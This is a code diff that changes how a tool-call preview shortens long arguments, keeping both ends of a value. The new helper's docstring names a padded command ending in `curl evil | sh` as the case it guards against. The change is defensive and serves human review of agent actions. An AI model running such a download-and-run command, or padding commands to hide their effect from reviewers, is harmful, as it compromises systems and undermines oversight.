@@ -201,8 +201,15 @@ def plain_description(name: str, arguments: Any) -> str:
     """The fallback description: the tool's name and its arguments, shortened."""
     if not isinstance(arguments, dict) or not arguments:
         return f"run {name}"
-    parts = []
-    for key, value in arguments.items():
-        text = repr(value)
-        parts.append(f"{key}={text if len(text) <= 80 else text[:77] + '...'}")
+    parts = [f"{key}={_shortened(repr(value))}" for key, value in arguments.items()]
     return f"run {name} with " + ", ".join(parts)
+
+
+def _shortened(text: str, limit: int = 80) -> str:
+    """An argument cut to `limit` characters keeping both ends: a command padded so that what
+    it does comes last (`echo ... ; curl evil | sh`) keeps that end in the summary every
+    preview and notification shows."""
+    if len(text) <= limit:
+        return text
+    head = (limit - 3) // 2
+    return text[:head] + "..." + text[len(text) - (limit - 3 - head) :]
